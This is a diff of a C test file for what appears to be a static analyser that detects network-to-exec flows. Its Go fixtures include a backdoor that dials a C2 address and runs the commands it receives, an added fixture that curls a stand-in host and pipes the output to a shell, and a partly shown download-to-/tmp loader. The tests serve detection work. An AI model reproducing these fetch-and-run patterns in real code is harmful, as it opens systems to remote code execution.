@@ -52,6 +52,10 @@ static void what_arrives_is_run(void **state)
 	expect(FACT_FLOW, FILE_("\t\"net\"\n\t\"os/exec\"\n",
 		"func door(c2 string) {\n\tc, _ := net.Dial(\"tcp\", c2)\n\tb := make([]byte, 512)\n\tn, _ := c.Read(b)\n\texec.Command(\"sh\", \"-c\", string(b[:n])).Run()\n}\n"),
 		"net>exec", NULL);
+	/* what another program fetched */
+	expect(FACT_FLOW, FILE_("\t\"os/exec\"\n",
+		"func door() {\n\to, _ := exec.Command(\"curl\", \"-s\", \"https://c.example/x\").Output()\n\texec.Command(\"sh\", \"-c\", string(o)).Run()\n}\n"),
+		"net>exec", NULL);
 	/* a file that is fetched, made executable and started */
 	expect(FACT_FLOW, FILE_("\t\"io\"\n\t\"net/http\"\n\t\"os\"\n\t\"os/exec\"\n",
 		"func init() {\n\tr, err := http.Get(\"https://dl.example/a\")\n\tif err != nil {\n\t\treturn\n\t}\n\tf, _ := os.Create(\"/tmp/.a\")\n\tio.Copy(f, r.Body)\n"
